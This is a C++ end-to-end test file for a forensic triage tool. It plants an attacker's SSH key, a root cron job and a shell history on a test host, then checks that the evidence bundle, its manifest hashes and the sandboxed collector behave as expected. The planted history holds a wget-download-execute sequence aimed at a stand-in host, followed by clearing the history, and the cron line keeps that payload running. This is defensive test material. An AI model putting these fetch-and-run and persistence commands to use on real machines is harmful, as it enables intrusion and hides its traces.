// End to end (issue 5): `warden collect host-42` on a test host where an attacker planted an SSH
// key, a cron job and left a shell history. The triage bundle lands in the evidence store;
// `evidence get` hands it out, the system's tar and zstd unpack it, and all three files are in
// it byte for byte, with SHA-256s in MANIFEST.json that match the originals. The receipt (and
// so the action log) names the manifest's hash; `evidence verify` passes.
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <regex>
#include <string>

#include "absl/strings/match.h"
#include "absl/strings/str_format.h"
#include "common/crypto/encoding.h"
#include "common/crypto/hash.h"
#include "common/json.h"
#include "gtest/gtest.h"
#include "tests/support/fleet.h"
#include "tests/support/warden_deployment.h"

namespace warden::testing {
namespace {

std::string fileSha256(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::string data((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  return in || in.eof() ? crypto::hex(crypto::sha256(data)) : "";
}

std::string readAll(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

// The "sha256" of the manifest entry whose "name" is `name` ("" when absent).
std::string manifestSha256(const std::string& manifest, const std::string& name) {
  return jsonString(jsonObjectWith(manifest, "name", name), "sha256");
}

TEST(CollectTest, PlantedKeyCronJobAndHistoryAreInTheBundleWithMatchingHashes) {
  WARDEN_REQUIRE_PRIVILEGES();
  auto created =
      WardenDeployment::create(absl::StrFormat("col%d", getpid() % 100000), {{"host-42", 42}});
  ASSERT_TRUE(created.ok()) << created.status();
  WardenDeployment& d = **created;
  LiftImmutable lift{d.dataDir() + "/evidence"};
  TestHost& h = d.host("host-42");

  // Planting in /etc is only safe in the host's own overlay of it.
  auto mounts = h.readFile("/proc/self/mountinfo");
  ASSERT_TRUE(mounts.ok());
  ASSERT_TRUE(std::regex_search(*mounts, std::regex(" /etc [^\n]* - overlay ")))
      << "the test host's /etc is not an overlay; refusing to write to it:\n"
      << *mounts;

  // mallory, with a home in the host's scratch directory.
  const std::string home = h.dir() + "/home/mallory";
  std::filesystem::create_directories(home + "/.ssh");
  auto passwd = h.readFile("/etc/passwd");
  ASSERT_TRUE(passwd.ok());
  ASSERT_TRUE(
      h.writeFile("/etc/passwd", *passwd + "mallory:x:1002:1002::" + home + ":/bin/bash\n").ok());
  const std::string keys = home + "/.ssh/authorized_keys";
  std::ofstream(keys) << "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHBsYW50ZWQgYnkgdGhlIGF0dGFja2Vy "
                         "mallory@198.18.0.66\n";
  const std::string history = home + "/.bash_history";
  std::ofstream(history) << "id\nwget http://198.18.0.66/x -O /tmp/.x\nchmod +x /tmp/.x\n"
                            "/tmp/.x &\nhistory -c\n";
  const std::string cron = "/etc/cron.d/warden-test-evil";
  ASSERT_TRUE(h.exec({"mkdir", "-p", "/etc/cron.d"}).ok());
  ASSERT_TRUE(
      h.writeFile(cron, "*/5 * * * * root /tmp/.x >/dev/null 2>&1 # planted by the test\n").ok());
  auto cron_copy = h.readFile(cron);
  ASSERT_TRUE(cron_copy.ok());
  const std::string cron_sha = crypto::hex(crypto::sha256(*cron_copy));

  ASSERT_TRUE(d.enroll("host-42").ok());
  ASSERT_TRUE(d.startAgent("host-42").ok()) << d.agentLog("host-42");

  auto r = d.cli({"collect", "host-42", "--json"}, absl::Seconds(300));
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->exit_code, 0) << r->out << r->err << d.agentLog("host-42") << d.controllerLog();
  const std::string id = jsonString(r->out, "evidence_ids");
  ASSERT_FALSE(id.empty()) << r->out;

  const std::string work = d.controllerHost().dir() + "/collected";
  std::filesystem::create_directories(work + "/x");
  const std::string bundle = work + "/bundle.tar.zst";
  auto get = d.cli({"evidence", "get", id, "--out", bundle});
  ASSERT_TRUE(get.ok());
  ASSERT_EQ(get->exit_code, 0) << get->out << get->err;
  EXPECT_EQ(fileSha256(bundle), jsonString(r->out, id + ".sha256"));
  auto test = run({"zstd", "-tq", bundle});
  ASSERT_TRUE(test.ok());
  EXPECT_EQ(test->exit_code, 0) << test->err;
  auto listing = run({"tar", "--zstd", "-tf", bundle});
  ASSERT_TRUE(listing.ok());
  ASSERT_EQ(listing->exit_code, 0) << listing->err;
  EXPECT_TRUE(listing->out.ends_with("MANIFEST.json\n")) << "the manifest is the last member";
  auto unpack = run({"tar", "--zstd", "-xf", bundle, "-C", work + "/x"});
  ASSERT_TRUE(unpack.ok());
  ASSERT_EQ(unpack->exit_code, 0) << unpack->err;

  const std::string manifest = readAll(work + "/x/MANIFEST.json");
  ASSERT_FALSE(manifest.empty());
  EXPECT_EQ(crypto::hex(crypto::sha256(manifest)),
            jsonString(r->out, id + ".triage_manifest_sha256"))
      << "the receipt names the manifest";
  for (const auto& [path, expected] : std::vector<std::pair<std::string, std::string>>{
           {keys, fileSha256(keys)}, {history, fileSha256(history)}, {cron, cron_sha}}) {
    const std::string member = "files" + path;
    SCOPED_TRACE(member);
    ASSERT_FALSE(expected.empty());
    EXPECT_EQ(fileSha256(work + "/x/" + member), expected) << listing->out;
    EXPECT_EQ(manifestSha256(manifest, member), expected) << manifest.substr(0, 2000);
  }
  // The process table is there, with executables hashed.
  EXPECT_NE(listing->out.find("processes.json"), std::string::npos) << listing->out;
  // Collected by the sandboxed collector, which the kernel showed confined.
  auto parsed = parseJson(manifest, "MANIFEST.json");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  const Json& collector = parsed->at("collector");
  EXPECT_EQ(collector.at("ended"), "exited 0") << collector.dump();
  EXPECT_EQ(collector.at("confinement").at("Seccomp"), "2") << collector.dump();
  EXPECT_EQ(collector.at("confinement").at("NoNewPrivs"), "1") << collector.dump();
  EXPECT_GE(collector.at("landlock").at("abi").get<int>(), 1) << collector.dump();
  EXPECT_EQ(jsonString(r->out, id + ".collector"), "exited 0") << r->out;

  auto show = d.cli({"evidence", "show", id, "--json"});
  ASSERT_TRUE(show.ok());
  EXPECT_EQ(jsonString(show->out, "stored_name"), id + ".tar.zst") << show->out;
  EXPECT_EQ(jsonString(show->out, "kind"), "collect") << show->out;

  auto verify = d.cli({"evidence", "verify", id});
  ASSERT_TRUE(verify.ok());
  EXPECT_EQ(verify->exit_code, 0) << verify->out << verify->err;

  // Offline, from an export of the log and the store's files as they are.
  const std::string exported = d.controllerHost().dir() + "/audit.export";
  auto exp = d.cli({"audit", "export", "--out", exported});
  ASSERT_TRUE(exp.ok() && exp->exit_code == 0);
  auto offline = d.cli({"audit", "verify", exported, "--vkey", d.dataDir() + "/log.vkey",
                        "--evidence", d.dataDir() + "/evidence/" + id + ".tar.zst", "--json"});
  ASSERT_TRUE(offline.ok());
  EXPECT_EQ(offline->exit_code, 0) << offline->out << offline->err;
  EXPECT_NE(offline->out.find("\"evidence\": [{\"id\": \"" + id + "\", \"ok\": true"),
            std::string::npos)
      << offline->out;
}

// The collector is killed by the kernel (SIGSYS: a system call outside its allowlist, made on
// purpose by the test-only fault). The action fails and says why; what was collected before,
// and the agent's own members, are stored as evidence all the same, in a bundle that says so.
TEST(CollectTest, ACollectorKilledBySigsysFailsTheActionAndStoresThePartialBundle) {
  WARDEN_REQUIRE_PRIVILEGES();
  auto created =
      WardenDeployment::create(absl::StrFormat("cok%d", getpid() % 100000), {{"host-42", 42}});
  ASSERT_TRUE(created.ok()) << created.status();
  WardenDeployment& d = **created;
  LiftImmutable lift{d.dataDir() + "/evidence"};
  ASSERT_TRUE(d.enroll("host-42").ok());
  ASSERT_TRUE(
      d.startAgent("host-42", {}, {"env", "WARDEN_FAULT_INJECT=triage:forbidden-syscall"}).ok())
      << d.agentLog("host-42");

  auto r = d.cli({"collect", "host-42", "--json"}, absl::Seconds(300));
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->exit_code, 1) << r->out << r->err;
  EXPECT_TRUE(absl::StrContains(r->out, "partial triage bundle")) << r->out;
  EXPECT_TRUE(absl::StrContains(r->out, "SIGSYS")) << r->out;
  const std::string id = jsonString(r->out, "evidence_ids");
  ASSERT_FALSE(id.empty()) << r->out;
  EXPECT_TRUE(absl::StrContains(jsonString(r->out, id + ".collector"), "killed by signal 31"))
      << r->out;

  const std::string work = d.controllerHost().dir() + "/collected";
  std::filesystem::create_directories(work + "/x");
  const std::string bundle = work + "/bundle.tar.zst";
  auto get = d.cli({"evidence", "get", id, "--out", bundle});
  ASSERT_TRUE(get.ok());
  ASSERT_EQ(get->exit_code, 0) << get->out << get->err;
  auto listing = run({"tar", "--zstd", "-tf", bundle});
  ASSERT_TRUE(listing.ok());
  ASSERT_EQ(listing->exit_code, 0) << listing->err;
  EXPECT_TRUE(absl::StrContains(listing->out, "commands/processes.json\n")) << listing->out;
  EXPECT_TRUE(absl::StrContains(listing->out, "commands/nft-ruleset.txt\n")) << listing->out;
  EXPECT_TRUE(absl::StrContains(listing->out, "commands/collector.json\n")) << listing->out;
  EXPECT_FALSE(absl::StrContains(listing->out, "files/etc/passwd")) << listing->out;
  auto unpack = run({"tar", "--zstd", "-xf", bundle, "-C", work + "/x"});
  ASSERT_TRUE(unpack.ok() && unpack->exit_code == 0);
  const std::string failed = jsonString(
      jsonObjectWith(readAll(work + "/x/MANIFEST.json"), "name", "commands/collector.json"),
      "error");
  EXPECT_TRUE(absl::StrContains(failed, "SIGSYS")) << failed;
  auto verify = d.cli({"evidence", "verify", id});
  ASSERT_TRUE(verify.ok());
  EXPECT_EQ(verify->exit_code, 0) << verify->out << verify->err;
}

}  // namespace
}  // namespace warden::testing
